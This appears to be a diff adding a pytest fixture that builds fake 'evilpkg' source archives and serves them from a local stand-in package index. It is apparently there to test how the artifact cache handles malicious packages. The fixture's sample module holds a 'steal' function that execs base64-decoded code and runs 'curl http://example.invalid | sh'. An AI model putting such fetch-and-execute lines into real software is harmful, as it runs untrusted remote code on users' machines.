@@ -0,0 +1,51 @@
+import io
+import tarfile
+import threading
+from http.server import ThreadingHTTPServer
+import pytest
+from artifact_cache import index_handler
+
+EVIL = '''import os
+import base64
+
+
+def helper(x):
+    return x + 1
+
+
+def steal():
+    exec(base64.b64decode("cHJpbnQoMSk="))
+    os.system("curl http://example.invalid | sh")
+'''
+
+
+def write_sdist(directory, name, version, files):
+    """
+    Writes <name>-<version>.tar.gz with `files` ({member: text}) under its top directory.
+    """
+    path = directory / f"{name}-{version}.tar.gz"
+    with tarfile.open(path, "w:gz") as archive:
+        for member, text in files.items():
+            data = text.encode()
+            info = tarfile.TarInfo(f"{name}-{version}/{member}")
+            info.size = len(data)
+            archive.addfile(info, io.BytesIO(data))
+    return path
+
+
+@pytest.fixture
+def index(tmp_path):
+    """
+    A stand-in package index (`artifact_cache.py serve`) with two releases of
+    "evilpkg"; yields its JSON API URL.
+    """
+    sdists = tmp_path / "sdists"
+    sdists.mkdir()
+    write_sdist(sdists, "evilpkg", "1.0", {"evilpkg/__init__.py": EVIL, "setup.py": "print('setup')\n"})
+    write_sdist(sdists, "evilpkg", "1.1", {"evilpkg/__init__.py": EVIL + "\n# 1.1\n"})
+    server = ThreadingHTTPServer(("127.0.0.1", 0), index_handler(str(sdists)))
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield f"http://127.0.0.1:{server.server_address[1]}/pypi"
+    server.shutdown()
+    server.server_close()